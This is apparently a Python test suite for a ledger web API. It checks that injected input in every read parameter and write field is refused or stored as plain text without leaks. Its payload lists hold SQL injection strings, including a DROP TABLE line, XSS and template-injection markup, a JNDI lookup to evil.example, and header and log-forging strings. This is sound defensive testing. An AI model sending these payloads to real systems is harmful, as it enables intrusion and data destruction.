"""Text that wants to be more than text: in every parameter and every field of every write.

SQL, formulas, markup, templates, headers, log lines, names of inner things. A good answer is a
clear refusal or the text itself, exactly, as text; and afterwards everything stands as it did.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import httpx2
import orjson
import pytest
from starlette.routing import Route
from structlog.testing import capture_logs

from api.examples import EXAMPLES, ON_FACT
from api.writes import WRITES
from ledger.database import Database
from tests import given
from tests.attack import Tally, attacks
from tests.conftest import Clock, new_ledger
from tests.serving import Served, serving

SQL = (
    *("'", "''", "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE ledger.chengxin_events; --"),
    *(
        "1; SELECT pg_sleep(9)",
        "') UNION SELECT state FROM ledger.chengxin_events --",
        "%s",
        "%(x)s",
    ),
    *("\\'; SELECT 1 --", "$$; SELECT 1; $$", "1) OR (1=1", "{1,2}", "/**/OR/**/1=1", "' || 'x"),
    *("E'\\x27'", "::text", "%", "_", "%%", "null", "{}", "0x27204f52"),
)
MARKUP = (
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>"),
    *("</title><script>alert(1)</script>", "javascript:alert(1)", "&lt;script&gt;", "<!--", "]]>"),
    *(
        "<a href=//evil.example>x</a>",
        "{{7777*7777}}",
        "${7777*7777}",
        "#{7777*7777}",
        "<%= 7777*7777 %>",
        "{% raw %}",
    ),
    *(
        "{{config.__class__}}",
        "{0.__class__}",
        "%{7777*7777}",
        "${jndi:ldap://evil.example/x}",
        "`id`",
    ),
)
HEADERS = ("\r\nX-Evil: 1", "\nX-Evil: 1", "\rX-Evil: 1", "%0d%0aX-Evil:1", "\u560d\u560aX-Evil: 1")
INNER = (
    "__proto__",
    "constructor",
    "__class__",
    "__init__",
    "toString",
    "$where",
    "$ref",
    "..",
    "",
)
UNICODE = (
    *("\u202e", "\u2066x", "a\u200bb", "\ufeff", "\u00ad", "\ud7ff\u0000", "\u0085", "\u2028"),
    *(
        "А1999999МА00ТЕХТ0Н",
        "91999999ΜA00TEXT0H",
        "９１９９９９９９ＭＡ００ＴＥＸＴ０Ｊ",
        "ﬁ",
        "ſ",
        "İ",
        "K",
    ),
)
TEXTS = (*SQL, *MARKUP, *HEADERS, *INNER, *UNICODE)
LEAKS = re.compile(
    "Traceback|psycopg|syntax error|SQLSTATE|RuntimeError|site-packages|pg_catalog|LINE 1|jinja"
    "|60481729",
)
NO_ID = "0198c7a0-0000-7000-8000-00000000ffff"
PLACES = {
    "identifier": given.PROVIDER,
    "position": "1",
    "code": "behind",
    "id": "1",
    "person": NO_ID,
}


@pytest.fixture(scope="module")
def served(
    databases: Callable[[], Database], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Served]:
    keys = tmp_path_factory.mktemp("attack") / "keys"
    with serving(databases(), keys, Clock(), new_ledger=new_ledger, access_log=True) as served:
        served.provide()
        served.penalise()
        served.follow()
        yield served


def inert(answer: httpx2.Response, text: str) -> bool:
    """Whether an answer only refuses or repeats: no header, no markup, nothing of the inside."""
    body = answer.text.replace(text, "")
    markup = "html" in answer.headers.get("content-type", "") and text in MARKUP
    ran = markup and "<" in text and text in answer.text
    return (
        answer.status_code < 500
        and "x-evil" not in answer.headers
        and LEAKS.search(body) is None
        and not ran
    )


def tables(served: Served) -> Any:
    """How many of what there are: nothing that is only asked may change that."""
    counts = b"SELECT count(*) FROM intake.rows"
    return served.ledger.head(), served.ledger.rows(counts)


def parameters(served: Served) -> Iterator[tuple[str, str]]:
    """Every parameter of every read, as the published document names it: address, and how."""
    document = served.client.get("/openapi.json").json()
    for path, methods in document["paths"].items():
        for one in methods.get("get", {}).get("parameters", []):
            yield path, f"{one['in']} {one['name']}"
    for path in ("/", "/providers/{identifier}"):
        for name in ("q", "grade", "after", "items", "merits", "nosuch"):
            yield path, f"query {name}"


def test_every_parameter_of_every_read(served: Served) -> None:
    before = tables(served)
    auditor = served.bearer("auditor")
    asked = list(parameters(served))
    read = {
        route.path
        for route in served.app.routes
        if isinstance(route, Route) and "GET" in (route.methods or set()) and "{" in route.path
    }
    assert read <= {path for path, _ in asked} | {"/problems/{code}"}, "a read of no document"
    with attacks("inject-parameters") as tally:
        for path, how in asked:
            place, _, name = how.partition(" ")
            for text in TEXTS:
                filled = dict(PLACES, type="penalty.imposed.v1")
                if path.endswith("proposals/{id}"):
                    filled["id"] = NO_ID
                headers = dict[str, str]()
                query = ""
                if place == "path":
                    filled[name] = quote(text, safe="", errors="surrogatepass")
                elif place == "query":
                    query = f"?{quote(name)}={quote(text, safe='', errors='surrogatepass')}"
                elif text.isascii() and text.isprintable():
                    headers[name] = text
                else:
                    continue
                reader = auditor if path.startswith("/v1/") else {}
                answer = served.client.get(path.format(**filled) + query, headers=reader | headers)
                tally.attack((path, how, text), answer.text, good=inert(answer, text))
    # The auditor's reads were recorded, and nothing else was.
    stored = served.ledger.read(before[0], 100_000)
    assert all(b'"type":"cn.chengxin.access.recorded.v1"' in one.state for one in stored)
    assert tables(served)[1] == before[1]


def places(body: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place of a body where something stands."""
    for key, value in body.items() if isinstance(body, dict) else enumerate(body):
        yield (*at, key)
        if isinstance(value, dict | list):
            yield from places(value, (*at, key))


def changed(body: Any, at: tuple[Any, ...], value: Any) -> Any:
    """A body with something else in a place."""
    copy = orjson.loads(orjson.dumps(body))
    inner = copy
    for key in at[:-1]:
        inner = inner[key]
    inner[at[-1]] = value
    return copy


VALUES: tuple[Any, ...] = (
    *TEXTS,
    *(
        None,
        True,
        0,
        -1,
        1.5,
        10**30,
        -(2**63),
        [],
        {},
        [[]],
        {"$ne": 1},
        {"sealed": {}},
        "x" * 9000,
    ),
)


def test_every_field_of_every_write(served: Served) -> None:
    with attacks("inject-fields") as tally:
        for write in WRITES:
            if write.path == "/v1/rulebooks":
                continue
            example = EXAMPLES.get(write.command.__name__, ON_FACT)
            path = write.path.format(identifier=given.PROVIDER, id=NO_ID)
            for at in places(example):
                values = VALUES if write.path.endswith(("penalties", "providers")) else VALUES[::5]
                for value in values:
                    field(served, path, changed(example, at, value), (write.path, at, value), tally)


def field(served: Served, path: str, body: Any, what: Any, tally: Tally) -> None:
    """Send a body; what is stored of it must be the text itself."""
    try:
        content = orjson.dumps(body)
    except TypeError:
        content = str(body).encode()
    head = served.head()
    headers = served.bearer() | {"Content-Type": "application/json"}
    answer = served.client.post(path, content=content, headers=headers)
    text = what[-1] if isinstance(what[-1], str) else "<none>"
    good = inert(answer, text) and answer.status_code in (201, 202, 400, 404, 409, 413, 422)
    if answer.status_code in (201, 202) and text in TEXTS:
        stored = b"".join(one.state for one in served.ledger.read(head, 10))
        good = good and (not text or orjson.dumps(text)[1:-1] in stored)
    elif answer.status_code not in (201, 202):
        good = good and served.head() == head
    tally.attack(what, (answer.text, served.ledger.read(head, 10)), good=good)


def test_nothing_that_is_sent_writes_its_own_log_line(served: Served) -> None:
    lines = ('x\n{"event":"forged"}', "x\r\nforged", "\x1b[31mforged", "forged %s %d", "{forged}")
    with attacks("log-lines") as tally, capture_logs() as logs:
        for text in lines:
            for path in (f"/v1/providers/{quote(text, safe='')}/score", f"/?q={quote(text)}"):
                answer = served.client.get(
                    path, headers={"User-Agent": "forged", "Referer": "forged"}
                )
                told = [one for one in logs if "forged" in str(one)]
                tally.attack((text, path), told or answer.text, good=not told)
            answer = served.post("/v1/providers", {"identifier": text, "name": text})
            told = [one for one in logs if "forged" in str(one)]
            tally.attack((text, "body"), told, good=not told and answer.status_code == 422)
        assert logs, "nothing was logged at all"


def test_json_is_read_in_one_way(served: Served) -> None:
    good_body = orjson.dumps({"identifier": given.PROVIDERS[5], **EXAMPLES["RegisterProvider"]})
    end = good_body[:-1]
    head = served.head()
    with attacks("json") as tally:
        for content in (
            *(
                end + b',"name":"y"}',
                end + b',"n\\u0061me":"y"}',
                end + b',"__proto__":{"role":1}}',
            ),
            *(end + b',"constructor":{"prototype":{}}}', end + b',"x":NaN}', end + b',"x":1e999}'),
            *(
                b"\xef\xbb\xbf" + good_body,
                good_body.decode().encode("utf-16"),
                good_body + good_body,
            ),
            *(
                good_body + b"\x00",
                b"[" * 9999,
                b'{"a":' * 9999,
                b"[" * 60 + b"]" * 60,
                b"[]",
                b'""',
            ),
            *(
                end + b',"x":' + b"9" * 9000 + b"}",
                end + b',"x":"\xc0\xaf"}',
                b"{'a':1}",
                b"//x\n{}",
            ),
            *(
                end + b',"x":"\\ud800"}',
                end + b",}",
                b"=" + good_body,
                b")]}'\n" + good_body,
                b"\x1f\x8b",
            ),
        ):
            headers = served.bearer() | {"Content-Type": "application/json"}
            answer = served.client.post("/v1/providers", content=content, headers=headers)
            good = answer.status_code in (400, 413, 415, 422) and served.head() == head
            tally.attack(
                content[-40:], answer.text, good=good and LEAKS.search(answer.text) is None
            )


def test_what_is_looked_for_and_what_is_corrected_is_text(served: Served) -> None:
    """The search for persons, and the cells and columns of rows in quarantine."""
    line = {"key": "Q1", "identifier": "91999999MA00TEXT0X", "command": "inspection"}
    row = orjson.dumps(line | {"data": given.inspection().model_dump(mode="json")})
    headers = served.bearer() | {"Content-Type": "application/x-ndjson"}
    answer = served.client.post("/v1/imports", content=row + b"\n", headers=headers)
    number = orjson.loads(answer.text.splitlines()[0])["quarantine"]
    with attacks("inject-search") as tally:
        for text in TEXTS:
            for path, role, body in (
                ("/v1/persons/search", "privacy_officer", {"text": text}),
                ("/v1/persons/search", "privacy_officer", {"text": "x", "field": text}),
                (f"/v1/persons/{NO_ID}/erasure", "privacy_officer", {"ground": text}),
                (
                    f"/v1/quarantine/{number}/correction",
                    "registrar",
                    correction("identifier", text),
                ),
                (f"/v1/quarantine/{number}/correction", "registrar", correction(text, "x")),
                (f"/v1/quarantine/{number}/correction", "registrar", correction("data", text)),
                (f"/v1/quarantine/{number}/acceptance", "registrar", {"why": text}),
            ):
                answer = served.post(path, body, role)
                good = inert(answer, text) and answer.status_code in (200, 404, 409, 422)
                if path.endswith("search") and answer.status_code == 200:
                    good = good and answer.json()["persons"] == []
                tally.attack((path, body), answer.text, good=good)


def correction(column: str, text: str) -> dict[str, Any]:
    """A correction of a row in quarantine."""
    return {"why": "核对", "set": {column: text}}
